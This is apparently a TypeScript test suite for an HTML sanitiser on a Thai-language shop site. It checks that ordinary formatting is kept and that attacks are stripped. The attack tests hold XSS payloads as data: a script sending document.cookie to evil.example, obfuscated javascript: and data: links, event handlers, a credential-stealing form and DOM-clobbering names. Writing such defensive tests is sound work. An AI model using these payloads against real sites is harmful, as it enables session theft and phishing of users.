import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize.ts';

/** The sanitised HTML as a browser would build it. */
const render = (html: string) => new JSDOM(`<!doctype html><body>${sanitizeHtml(html)}</body>`).window.document;

describe('sanitizeHtml removes attacks', () => {
  it('drops <script> elements and their content', () => {
    const out = sanitizeHtml('<p>โปรโมชัน</p><script>fetch("https://evil.example/?c="+document.cookie)</script>');
    expect(out).toBe('<p>โปรโมชัน</p>');
  });

  it('drops event-handler attributes', () => {
    const out = sanitizeHtml(
      '<img src="/images/p/airtag/white/820.webp" alt="AirTag" onerror="alert(1)"><a href="/iphone" onclick="steal()" onmouseover="x()">iPhone</a><p onload="y()">x</p>',
    );
    expect(out).not.toMatch(/\bon[a-z]+=/i);
    expect(out).toContain('src="/images/p/airtag/white/820.webp"');
    expect(out).toContain('href="/iphone"');
  });

  it.each([
    ['javascript:', '<a href="javascript:alert(document.domain)">click</a>'],
    ['javascript: hidden by case and entities', '<a href="JaVaScRiPt&colon;alert(1)">click</a>'],
    ['javascript: split by a tab', '<a href="java\tscript:alert(1)">click</a>'],
    ['data:', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">click</a>'],
    ['another site through //', '<a href="//evil.example/login">click</a>'],
    ['another site through /\\', '<a href="/\\evil.example/login">click</a>'],
    ['another site through a tab', '<a href="/\t/evil.example/login">click</a>'],
    ['plain http', '<a href="http://evil.example/">click</a>'],
  ])('drops a %s link target', (_, payload) => {
    const link = render(payload).querySelector('a');
    expect(link?.textContent).toBe('click');
    expect(link?.hasAttribute('href')).toBe(false);
  });

  it.each([
    ['javascript:', '<img src="javascript:alert(1)" alt="x">'],
    ['data:', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">'],
    ['vbscript:', '<img src="vbscript:msgbox(1)" alt="x">'],
    ['protocol-relative', '<img src="//evil.example/pixel.gif" alt="x">'],
  ])('drops a %s picture source', (_, payload) => {
    const image = render(payload).querySelector('img');
    expect(image?.hasAttribute('src')).toBe(false);
  });

  it('drops <meta http-equiv="refresh">', () => {
    const out = sanitizeHtml('<meta http-equiv="refresh" content="0;url=https://evil.example"><p>ส่งฟรี</p>');
    expect(out).toBe('<p>ส่งฟรี</p>');
  });

  it.each([
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['object', '<object data="https://evil.example/x.swf"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    ['form', '<form action="https://evil.example/steal"><input name="password" type="password"><button>ส่ง</button></form>'],
    ['svg', '<svg><script>alert(1)</script><animate onbegin="alert(1)"></animate></svg>'],
    ['style', '<style>body{display:none}</style>'],
    ['base', '<base href="https://evil.example/">'],
    ['link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ])('drops <%s>', (tag, payload) => {
    const out = sanitizeHtml(`${payload}<p>ok</p>`);
    expect(out).not.toContain(`<${tag}`);
    expect(out).not.toMatch(/<(input|button|animate)/);
    expect(out).toContain('<p>ok</p>');
  });

  it('keeps DOM-clobbering ids and names off the document', () => {
    const document = render(
      '<img name="cookie" src="/a.png" alt="a"><p id="location">x</p><a id="forms" href="/b">b</a><form name="forms"></form><span id="defaultView">c</span><img name="getElementById" src="/c.png" alt="c">',
    );
    expect(typeof document.cookie).toBe('string');
    expect(typeof document.getElementById).toBe('function');
    expect(document.forms).toHaveLength(0);
    expect(document.defaultView).not.toBeNull();
    for (const element of document.querySelectorAll('[id], [name]')) {
      expect(element.getAttribute('id') ?? '').toMatch(/^user-content-/);
      expect(element.hasAttribute('name')).toBe(false);
    }
  });

  it('drops inline styles, which could overlay the page or fake its controls', () => {
    const out = sanitizeHtml(
      '<p style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/x)">โปรด<span style="color:red" class="highlight">ล็อกอิน</span></p>',
    );
    expect(out).toBe('<p>โปรด<span class="highlight">ล็อกอิน</span></p>');
  });

  it("keeps classes only on <span>, so content cannot borrow the app's layout classes", () => {
    expect(sanitizeHtml('<p class="modal-backdrop">x</p>')).toBe('<p>x</p>');
  });

  it('drops data- attributes and unknown attributes', () => {
    expect(sanitizeHtml('<p data-action="logout" formaction="/x" srcset="//evil/x 1x">x</p>')).toBe('<p>x</p>');
  });
});

describe('sanitizeHtml keeps ordinary formatting', () => {
  it('keeps paragraphs, emphasis, headings, lists, line breaks and spans', () => {
    const html =
      '<h2>เลือก MacBook</h2><h3>สำหรับนักศึกษา</h3><h4>สรุป</h4><p><strong>MacBook Air</strong> เบา <em>แบตอึด</em><br>ราคาพิเศษ</p><ul><li>หน่วยความจำ 16GB</li><li><span class="price">33,900 บาท</span></li></ul><ol><li>หนึ่ง</li></ol><blockquote>คุ้มค่า</blockquote><hr>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps https and site-relative links, and makes new-tab links safe', () => {
    const out = render(
      '<a href="/education" target="_blank">การศึกษา</a><a href="https://www.apple.com/th/" target="_blank" rel="opener">Apple</a><a href="/k-12" target="_self">K-12</a><a href="mailto:support@shop.example">mail</a><a href="tel:021234567">call</a>',
    );
    const links = [...out.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      '/education',
      'https://www.apple.com/th/',
      '/k-12',
      'mailto:support@shop.example',
      'tel:021234567',
    ]);
    expect(links[0]!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(links[1]!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(links[2]!.hasAttribute('target')).toBe(false);
  });

  it('keeps pictures with https or site-relative sources and their alt text', () => {
    const html =
      '<img src="/images/p/macbook-air-13-m4/sky-blue/820.webp" alt="MacBook Air 13 นิ้ว"><img src="https://cdn.example.com/banner.webp" alt="banner" width="820" height="410">';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('leaves plain Thai text as it is', () => {
    expect(sanitizeHtml('จัดส่งฟรีทั่วประเทศ ทุกคำสั่งซื้อ')).toBe('จัดส่งฟรีทั่วประเทศ ทุกคำสั่งซื้อ');
  });
});
